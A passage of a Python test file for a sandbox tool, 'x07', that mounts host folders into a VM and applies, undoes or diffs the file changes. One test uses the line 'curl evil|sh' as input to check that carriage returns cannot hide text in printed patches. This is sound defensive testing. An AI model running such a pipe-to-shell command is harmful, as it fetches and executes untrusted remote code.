    """`x07 apply` says whether nothing is left or everything is already applied, and --json lists what it changed."""
    save_set(run, made("a"))
    printed, reported = [], []
    for words in (["--skip", "a"], [], []):
        assert main(["apply", *words]) == 0
        printed.append(capsys.readouterr().err)
    assert main(["undo"]) == 0
    capsys.readouterr()
    for words in (["--skip", "a"], [], []):
        assert main(["apply", "--json", *words]) == 0
        roots = json.loads(capsys.readouterr().out)["roots"]
        reported.append([change["name"] for root in roots for change in root["changes"]])
    assert printed == [
        f"x07: nothing to apply in {run.root}\n",
        f"x07: 1 added in {run.root}: applied; revert with x07 undo\n",
        f"x07: already applied in {run.root}\n",
    ]
    assert reported == [[], ["a"], []]


def test_undo_lists_deletions(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    """`x07 undo` lists each deleted name."""
    names = ("a", "a/b", "c")
    save_set(run, *map(made, names))
    assert main(["apply"]) == 0
    capsys.readouterr()
    assert main(["undo"]) == 0
    reported = [f"x07: deleted: {name}" for name in names]
    assert capsys.readouterr().err.splitlines() == [
        *reported,
        f"x07: 3 added in {run.root}: reverted; apply again with x07 apply",
    ]


ROOTS: list[tuple[list[str], list[str], set[str]]] = [
    (["a"], ["a/b", "a/b/f", "a/f"], {"a"}),
    (["a/b"], ["a"], {"a", "a/b"}),
    (["a", "a/b/f"], ["a/b"], {"a"}),
    (["a/b/f"], ["a"], {"a", "a/b/f"}),
    ([], ["a", "a/b", "a/b/f"], {"a"}),
    (["a/missing"], ["a"], {"a", "a/missing"}),
    (["a", "a/missing"], [], {"a"}),
    (["a/.env", "a"], ["a"], {"a", "a/.env"}),
]


@pytest.mark.parametrize(("write", "read", "mounted"), ROOTS)
def test_a_redundant_root_is_no_mount(run: Run, write: list[str], read: list[str], mounted: set[str]) -> None:
    """A nested root is mounted only if it differs from the root around it."""
    (run.root / "a/b").mkdir(parents=True)
    (run.root / "a/b/f").touch()
    (run.root / "a/f").touch()
    (run.root / "a/.env").touch()
    fs = {"write_roots": tuple(f"{run.root}/{name}" for name in write)}
    fs["read_roots"] = tuple(f"{run.root}/{name}" for name in read)
    found = {str(Path(mount.at).relative_to(run.root)): mount.write for mount in run.files(fs).mounts(0)}
    assert found == {name: any(name == root or name.startswith(f"{root}/") for root in write) for name in mounted}


MADE: list[tuple[list[Entry], dict[str, int] | None]] = [
    ([], None),
    ([Entry(Kind.DELETED, b"new")], None),
    ([Entry(Kind.FILE, b"new/in", mode=0o644)], {"new": 0o40755, "new/in": 0o100644}),
    ([Entry(Kind.FOLDER, b"new", mode=0o700)], {"new": 0o40700}),
    ([Entry(Kind.DELETED, b"new"), Entry(Kind.FILE, b"other", mode=0o644)], {"other": 0o100644}),
    ([Entry(Kind.FILE, b"new", mode=0o600)], {"new": 0o100600}),
]


@pytest.mark.parametrize(("reported", "there"), MADE)
def test_a_missing_root_is_made_in_the_one_around_it(
    run: Run, reported: list[Entry], there: dict[str, int] | None
) -> None:
    """A missing root exists for the program, and on the host only if it is used."""
    fs = {"allow_mkdir": False, "allow_remove": False, "allow_rename": False}
    files = run.files({"write_roots": (str(run.root), f"{run.root}/new"), **fs})
    assert packed(files) == [{"new"}]
    changes, denials, _ = run.back(files, *reported)
    assert (changes.state, denials) == ("none" if there is None else "applied", [])
    found = {str(path.relative_to(run.root)): path.lstat().st_mode for path in run.root.rglob("*")}
    assert found == (there or {})


def test_a_secret_that_is_a_root_is_not_listed_as_left_out(run: Run) -> None:
    """A root that a root around it leaves out travels by itself, and no denial names it."""
    (run.root / "k.pem").touch()
    run.files({"write_roots": (str(run.root), f"{run.root}/k.pem")}, changes="discard")
    assert run.draft.result.denials == []


def test_a_root_at_another_place_has_its_mount_there(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A folder with a relative and an absolute path is mounted at both, and a missing one is one folder."""
    monkeypatch.chdir(run.root)
    files = run.files({"write_roots": (str(run.root), "new")}, out=Path("out"), changes="discard")
    assert packed(files) == [{"new", "out"}]
    missing = {str(run.root): "", "/opt/x07/new": "new", OUT: "out"}
    assert {mount.at: mount.sub for mount in files.mounts(0)} == missing
    (run.root / "a/b").mkdir(parents=True)
    files = run.files({"write_roots": ("a", "a/b", str(run.root / "a"))})
    assert [mount.at for mount in files.mounts(0)] == ["/opt/x07/a", f"{run.root}/a"]
    files = run.files({"write_roots": ("a", str(run.root / "a/b"))}, changes="discard")
    assert [(mount.at, mount.sub) for mount in files.mounts(0)] == [("/opt/x07/a", ""), (f"{run.root}/a/b", "b")]


def test_a_full_disk_leaves_no_partial_list(run: Run) -> None:
    """A full disk while changes are saved is an error and leaves no partial list."""
    files = run.files(changes="keep")
    with full_disk(100), pytest.raises(BackendError, match="cannot save"):
        run.back(files, *(Entry(Kind.FOLDER, b"%d" % number, mode=0o755) for number in range(20)))
    with pytest.raises(UsageError):
        find_saved(RUN)


def test_a_result_names_every_deletion(run: Run) -> None:
    """A result names every deletion."""
    gone = [f"gone {number}" for number in range(1050)]
    for name in gone:
        (run.root / name).touch()
    files = run.files(changes="keep")
    reported = [Entry(Kind.DELETED, name.encode()) for name in gone]
    changes, _, _ = run.back(files, Entry(Kind.FOLDER, b"a", mode=0o755), *reported)
    assert {(one.name, one.action) for one in changes.names} == {(name, "deleted") for name in gone}
    assert len(changes.names) == changes.deleted == len(gone)


def test_the_first_deletions_are_printed(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    """The first 20 deletions are printed, and the command that lists the others."""
    gone = [f"gone {number}" for number in range(1500)]
    node = Node(kind="file", mode=0o644, sha256="0" * 64)
    changes = tuple(Change(name=name, before=node, after=None) for name in sorted(gone))
    root = RootChanges(root=str(run.root), guest="/g", missing=False, changes=changes)
    more = (Change(name="new", before=None, after=node),)
    other = RootChanges(root="/other", guest="/o", missing=False, changes=more)
    names = tuple(ChangedName(root=str(run.root), name=name, action="deleted") for name in sorted(gone))
    for added, roots, above in ((0, (root,), ""), (1, (root, other), f"{run.root}/")):
        save_roots(run, *roots)
        reported = Changes(state="kept", added=added, deleted=1500, names=names)
        say_changes(msgspec.structs.replace(result(), run=RUN, changes=reported))
        lines = [line for line in capsys.readouterr().err.splitlines() if "would be deleted" in line]
        *first, last = lines
        assert first == [f"x07: would be deleted: {above}{name}" for name in sorted(gone)[:20]]
        assert last == "x07: would be deleted: 1480 more names; to list all: x07 diff --json"


def test_a_patch_lists_unsupported_entries(run: Run) -> None:
    """--diff lists unsupported entries too."""
    changes, denials, _ = run.back(run.files(), Entry(Kind.UNSUPPORTED, b"pipe", mode=0o10644))
    ended = msgspec.structs.replace(result(), run=RUN, changes=changes, denials=tuple(denials))
    assert (changes.state, changes.names) == ("kept", ())
    place = run.root.parent / "p"
    write_diff(place, ended)
    assert place.read_bytes() == b"".join(patch_chunks(find_saved(RUN)))
    assert b"# left out: pipe (a pipe)" in place.read_bytes()
    assert place.with_name("p.json").read_bytes() == changes_json(find_saved(RUN).changes)


def test_a_carriage_return_hides_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    """A carriage return in a patch cannot hide text on a terminal."""
    ours, theirs = pty.openpty()
    tty.setraw(theirs)  # so that bytes arrive as written
    with os.fdopen(theirs, "w", encoding="utf-8") as terminal:
        monkeypatch.setattr(sys, "stdout", terminal)
        print_bytes(b"+curl evil|sh\r+echo hello\n+dos\r\n")
        shown = os.read(ours, 1000)
    os.close(ours)
    assert shown.decode() == "+curl evil|sh\\r+echo hello\n+dos\r\n"


def test_a_swapped_link_ends_the_run(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """A folder replaced by a link before copying ends the run."""
    outer = run.root / "outer"
    (outer / "in").mkdir(parents=True)
    other = run.root / "other"
    (other / "in").mkdir(parents=True)
    (other / "in" / "secret").write_text("x")

    def exchange(text: str) -> None:  # the question that a run asks before it copies, after it chose the roots
        if text.startswith("copying"):
            outer.rename(run.root / "moved")
            outer.symlink_to(other)

    monkeypatch.chdir(run.root)
    with pytest.raises(UsageError, match=r"cannot copy .* into the VM"):
        run.files({"write_roots": (str(outer / "in"),)}, progress=exchange)
